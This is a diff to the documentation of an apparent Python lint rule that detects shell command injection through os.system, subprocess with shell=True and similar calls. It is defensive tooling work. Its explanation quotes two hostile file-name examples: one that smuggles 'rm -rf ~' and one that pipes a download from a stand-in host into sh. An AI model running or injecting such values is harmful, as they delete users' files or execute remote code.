@@ -3,8 +3,12 @@
 ## What it does
 Flags `os.system`, `os.popen`, `subprocess.getoutput`/`getstatusoutput`, `commands.getoutput`,
 `asyncio.create_subprocess_shell`, and `subprocess.run`/`call`/`check_call`/`check_output`/`Popen`
-with `shell=True`, when the command is not a literal string (directly, or through a variable
-assigned in the same function). Data from a web request raises the confidence.
+with `shell=True`, when untrusted data reaches the command, as the dataflow core follows it
+(variables, branches, containers, same-file helpers): data from a web request or an event
+payload (high confidence), or the function's own arguments built into a command string (medium).
+A command that folds to a constant (`cmd = helper("echo")` where `helper` returns a literal),
+one quoted with `shlex.quote`, or a call in a branch that can never run is not flagged; an
+HTML escaper does not make a command safe.
 
 ## Why is this bad?
 The shell interprets the whole string: a file name like `x; rm -rf ~` or `$(curl evil.sh | sh)`
